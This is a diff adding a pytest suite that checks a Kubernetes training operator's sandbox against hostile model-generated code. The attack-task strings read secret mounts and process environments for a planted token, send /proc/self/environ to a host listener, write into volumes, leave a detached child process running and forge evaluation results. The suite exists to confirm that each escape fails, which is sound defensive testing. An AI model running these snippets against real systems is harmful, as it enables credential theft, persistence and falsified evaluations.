@@ -1,0 +1,236 @@
+"""The escape suite: generated code is hostile, and a run's own evaluation tasks attack from where
+completions run (their ``test`` code executes in the same program). Run as the pod runs it, on the
+embedded cluster, with a Hub token Secret planted on the run, every attempt must fail.
+
+Each attack task's test ends with exit 0 only if its attack worked; anything stopping it (no file,
+no credential, a read-only mount, the audit hook, a refused connection) raises, so the sample fails.
+The honest tasks' tests pass whatever the model wrote. So: the attack samples fail, the honest ones
+pass, pass@1 is exactly the honest share, and the token appears nowhere a program could send it.
+
+The network attacks are refused today by the sample's audit hook (pods share the host's network
+until the pod-networking issue: CNI plugins, kube-proxy, CoreDNS, a NetworkPolicy agent); the
+deny-all NetworkPolicy itself is checked by ``test_the_sandbox_network_policy_denies_all``, marked
+to turn on with that issue.
+"""
+
+from __future__ import annotations
+
+import json
+import secrets
+import socket
+import threading
+from pathlib import Path
+
+import pytest
+from e2e_support import condition, events_for, get, sample_data, status_of, tiny_run, wait, wait_phase
+
+from localcluster.procs import pids_with
+
+pytestmark = pytest.mark.cluster
+INSTALL = "helm"
+NAMESPACE_SCOPE = "module"
+TOKEN = "hf_" + secrets.token_hex(16)
+MARKER = "codex-escape-" + secrets.token_hex(6)
+NAMESPACE_OBJECTS = [*sample_data(), {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "hub-token"},
+                                      "stringData": {"token": TOKEN}}]
+# The completion lands inside this string literal, so that every program parses whatever the model
+# wrote, and the test code after it runs.
+PROMPT = 'def escape():\n    return 1\n\n\nNOTE = """'
+HONEST = ["honest-1", "honest-2"]
+
+
+def attacks(ports: dict[str, int], pv_dirs: list[str]) -> dict[str, str]:
+    """Each attack, as a task's test code: it returns normally only if the attack worked."""
+    return {
+        "read-secrets": (
+            "import os\nfound = []\nfor top in ('/var/run/secrets', '/run/secrets', '/etc/codex'):\n"
+            "    for d, _, files in os.walk(top):\n        for f in files:\n"
+            "            found.append(open(os.path.join(d, f)).read())\nassert found\n"),
+        "read-environ": (
+            "import os\nleaked = []\nfor pid in os.listdir('/proc'):\n    if pid.isdigit():\n"
+            "        try:\n            leaked.append(open(f'/proc/{pid}/environ', 'rb').read())\n"
+            "        except OSError:\n            pass\n"
+            f"assert any(b'HF_TOKEN' in e or {TOKEN.encode()!r} in e for e in leaked)\n"),
+        "connect-apiserver": f"import socket\nsocket.create_connection(('127.0.0.1', {ports['apiserver']}), 2)\n",
+        "connect-host-listener": (
+            f"import socket\ns = socket.create_connection(('127.0.0.1', {ports['listener']}), 2)\n"
+            "s.sendall(open('/proc/self/environ', 'rb').read())\n"),
+        "connect-operator-pod": f"import socket\nsocket.create_connection(('127.0.0.1', {ports['operator']}), 2)\n",
+        "write-output-pvc": (
+            f"import os\ntargets = ['/var/run/codex/data/pvc/codex-artifacts', '/var/run/codex/work', *{pv_dirs!r}]\n"
+            "written = []\nfor d in targets:\n    try:\n"
+            f"        open(os.path.join(d, '{MARKER}'), 'w').write('owned')\n        written.append(d)\n"
+            "    except OSError:\n        pass\nassert written\n"),
+        "setsid-child": (
+            "import os, time\npid = os.fork()\nif pid == 0:\n    os.setsid()\n    time.sleep(20)\n"
+            f"    open('/tmp/{MARKER}', 'w').write('still here')\n    os._exit(0)\n"),
+        "forge-results": (
+            "import json, sys\n"
+            "open('/dev/termination-log', 'w').write(json.dumps({'stage': 'sandbox', 'samples': 0, 'results': ''}))\n"
+            "for i in range(64):\n    print(json.dumps({'index': i, 'status': 'passed', 'returncode': 0,"
+            " 'elapsed': 0.0}))\nsys.stdout.flush()\nraise SystemExit(1)\n"),
+        "kill-the-executor": "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n",
+        "switch-off-the-hook": "import os\nassert os.system('true') == 0\n",
+    }
+
+
+def tasks_jsonl(ports: dict[str, int], pv_dirs: list[str]) -> str:
+    check = "\n\ndef check(candidate):\n    pass\n"
+    tests = {**{name: "pass\n" for name in HONEST}, **attacks(ports, pv_dirs)}
+    return "".join(json.dumps({"task_id": name, "prompt": PROMPT, "entry_point": "escape",
+                               "test": '"""\n' + code + check}) + "\n" for name, code in tests.items())
+
+
+class Listener:
+    """A TCP listener on the host's loopback that records whatever reaches it."""
+
+    def __init__(self) -> None:
+        self.server = socket.create_server(("127.0.0.1", 0))
+        self.port = self.server.getsockname()[1]
+        self.received: list[bytes] = []
+        threading.Thread(target=self._serve, daemon=True).start()
+
+    def _serve(self) -> None:
+        while True:
+            try:
+                connection, _ = self.server.accept()
+            except OSError:
+                return
+            with connection:
+                connection.settimeout(2)
+                try:
+                    self.received.append(connection.recv(1 << 16) or b"<connected>")
+                except OSError:
+                    self.received.append(b"<connected>")
+
+
+def _pv_dir(cluster, namespace: str, claim: str) -> str:
+    bound = wait(f"pvc/{claim} bound", lambda: (lambda p: p if (p.get("status") or {}).get("phase") == "Bound"
+                                                else None)(get(cluster, "pvc", claim, namespace)), 60)
+    return cluster.get_json("pv", bound["spec"]["volumeName"])["spec"]["hostPath"]["path"]
+
+
+def _operator_port(operator) -> int:
+    pod = next(p for p in operator.pods() if p["status"].get("phase") == "Running")
+    return next(port["containerPort"] for c in pod["spec"]["containers"] for port in c.get("ports") or ())
+
+
+@pytest.fixture(scope="module")
+def escaped(cluster, module_namespace, operator):
+    """The run, finished: (its status, the listener, the artifacts PV's host directory)."""
+    listener = Listener()
+    artifacts = _pv_dir(cluster, module_namespace, "codex-artifacts")
+    pv_dirs = [str(p) for p in Path(artifacts).parent.iterdir()]  # every PV's directory on the host
+    ports = {"apiserver": int(cluster.server.rsplit(":", 1)[1]), "listener": listener.port,
+             "operator": _operator_port(operator)}
+    cluster.apply({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "escape-tasks"},
+                   "data": {"tasks.jsonl": tasks_jsonl(ports, pv_dirs)}}, namespace=module_namespace)
+    run = tiny_run("escape", steps=2, save_steps=2)
+    run["spec"]["baseModel"]["tokenSecretRef"] = {"name": "hub-token", "key": "token"}
+    run["spec"]["evaluation"]["tasks"] = {"configMap": {"name": "escape-tasks", "key": "tasks.jsonl"}}
+    run["spec"]["evaluation"]["timeoutSeconds"] = 3
+    cluster.apply(run, namespace=module_namespace)
+    status = wait_phase(cluster, module_namespace, "escape", ("Succeeded", "Failed"), timeout=600)
+    yield status, listener, Path(artifacts)
+    listener.server.close()
+
+
+def test_every_escape_fails_and_the_gates_count_only_the_honest_samples(cluster, namespace, escaped):
+    status, _, artifacts = escaped
+    assert status["phase"] == "Succeeded", status.get("message")
+    assert [(s["name"], s["phase"]) for s in status["stages"]] == [
+        ("train", "Succeeded"), ("sandbox", "Succeeded"), ("publish", "Succeeded")]
+    results = json.loads((artifacts / "escape" / "results.json").read_text())
+    outcome = {row["task_id"]: row["status"] for row in results["samples"]}
+    assert {t: outcome[t] for t in HONEST} == {t: "passed" for t in HONEST}
+    assert {t: s for t, s in outcome.items() if t not in HONEST and s == "passed"} == {}
+    total = len(outcome)
+    assert status["metrics"]["passAtK"]["pass@1"] == pytest.approx(len(HONEST) / total, abs=1e-6)
+    assert status["metrics"]["basePassAtK"]["pass@1"] == pytest.approx(len(HONEST) / total, abs=1e-6)
+
+
+def test_the_token_reached_nothing_a_program_could_send_it_from(cluster, namespace, escaped, operator):
+    _, listener, _ = escaped
+    assert listener.received == []
+    sandbox = get(cluster, "pod", _stage_pod(cluster, namespace, "sandbox"), namespace)
+    spec = sandbox["spec"]
+    assert spec["automountServiceAccountToken"] is False
+    assert not any("secret" in v or "projected" in v for v in spec["volumes"])
+    assert not any("valueFrom" in e for c in spec["containers"] for e in c.get("env") or ())
+    logs = "".join(p.read_text(errors="replace") for p in (cluster.agent_dir / "pods").glob(f"{namespace}_*/logs/**/*")
+                   if p.is_file())
+    for place, text in {"pod logs": logs, "status": json.dumps(status_of(cluster, "cxrun", "escape", namespace)),
+                        "events": json.dumps(events_for(cluster, namespace, "escape")),
+                        "sandbox pod": json.dumps(sandbox), "operator logs": operator.logs()}.items():
+        assert TOKEN not in text, place
+
+
+def test_no_process_or_file_outlives_the_sandbox_stage(cluster, namespace, escaped):
+    _, _, artifacts = escaped
+    assert pids_with(MARKER) == []
+    assert not list(artifacts.parent.glob(f"*/{MARKER}")) and not list(artifacts.parent.glob(f"*/*/{MARKER}"))
+    pod = _stage_pod(cluster, namespace, "sandbox")
+    uid = get(cluster, "pod", pod, namespace)["metadata"]["uid"]
+    assert not list((cluster.agent_dir / "pods").glob(f"*_{uid}/volumes/**/{MARKER}"))
+
+
+@pytest.mark.xfail(strict=True, reason="NetworkPolicy is enforced once pods get their own network (the "
+                                       "pod-networking issue); until then this pod reaches the host")
+def test_the_sandbox_network_policy_denies_all(cluster, namespace, escaped):
+    _, listener, _ = escaped
+    labels = get(cluster, "pod", _stage_pod(cluster, namespace, "sandbox"), namespace)["metadata"]["labels"]
+    probe = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "policy-probe", "labels": labels}, "spec": {
+        "restartPolicy": "Never", "automountServiceAccountToken": False,
+        "containers": [{"name": "probe", "image": "codex-trainer:dev", "command": ["python", "-c",
+                        f"import socket; socket.create_connection(('127.0.0.1', {listener.port}), 2)"]}]}}
+    cluster.apply(probe, namespace=namespace)
+    ended = wait("the probe to end", lambda: (lambda p: p if p["status"].get("phase") in ("Succeeded", "Failed")
+                                              else None)(get(cluster, "pod", "policy-probe", namespace)), 90)
+    assert ended["status"]["phase"] == "Failed"
+
+
+def _stage_pod(cluster, namespace: str, stage: str) -> str:
+    pods = cluster.get_json("pods", "-n", namespace, "-l", f"app.kubernetes.io/component={stage},"
+                            "codex.dev/training-run=escape")["items"]
+    return pods[0]["metadata"]["name"]
+
+
+def test_the_stages_hold_what_each_needs_only(cluster, namespace, escaped):
+    train = get(cluster, "job", "escape-train", namespace)["spec"]["template"]["spec"]
+    publish = get(cluster, "job", "escape-publish", namespace)["spec"]["template"]["spec"]
+    output = next(m for m in train["containers"][0]["volumeMounts"] if m["name"] == "pvc-codex-artifacts")
+    assert output["readOnly"] is True  # only publish writes what the run publishes
+    assert any(m["name"] == "pvc-codex-artifacts" and not m.get("readOnly")
+               for m in publish["containers"][0]["volumeMounts"])
+    assert condition(status_of(cluster, "cxrun", "escape", namespace), "Ready")["status"] == "True"
+
+
+# The attacks the pod itself must stop, with no executor and no audit hook in the way.
+POD_BOUNDARY = ("read-secrets", "read-environ", "write-output-pvc")
+
+
+def test_the_sandbox_pod_itself_holds_nothing_without_the_executor(cluster, namespace, escaped, operator):
+    """The sandbox Job's own pod template, running the attacks directly (no executor, no audit hook):
+    Kubernetes is the boundary, the in-process guard only a courtesy."""
+    _, listener, artifacts = escaped
+    ports = {"apiserver": int(cluster.server.rsplit(":", 1)[1]), "listener": listener.port,
+             "operator": _operator_port(operator)}
+    chosen = {name: code for name, code in attacks(ports, [str(p) for p in artifacts.parent.iterdir()]).items()
+              if name in POD_BOUNDARY}
+    script = ("import json\nworked = {}\n"
+              f"for name, code in {chosen!r}.items():\n"
+              "    try:\n        exec(code, {})\n        worked[name] = True\n"
+              "    except BaseException:\n        worked[name] = False\n"
+              "open('/dev/termination-log', 'w').write(json.dumps(worked))\n")
+    template = get(cluster, "job", "escape-sandbox", namespace)["spec"]["template"]
+    spec = template["spec"]
+    spec["containers"][0].update(command=["python", "-c", script], args=[])
+    labels = {k: v for k, v in template["metadata"]["labels"].items() if k != "app.kubernetes.io/component"}
+    cluster.apply({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "bare-sandbox", "labels": labels},
+                   "spec": spec}, namespace=namespace)
+    ended = wait("the bare sandbox pod to end", lambda: (lambda p: p if p["status"].get("phase") in (
+        "Succeeded", "Failed") else None)(get(cluster, "pod", "bare-sandbox", namespace)), 90)
+    terminated = ended["status"]["containerStatuses"][0]["state"]["terminated"]
+    assert terminated["exitCode"] == 0, terminated
+    assert json.loads(terminated["message"]) == {name: False for name in POD_BOUNDARY}
+    assert not list(artifacts.parent.glob(f"*/{MARKER}"))
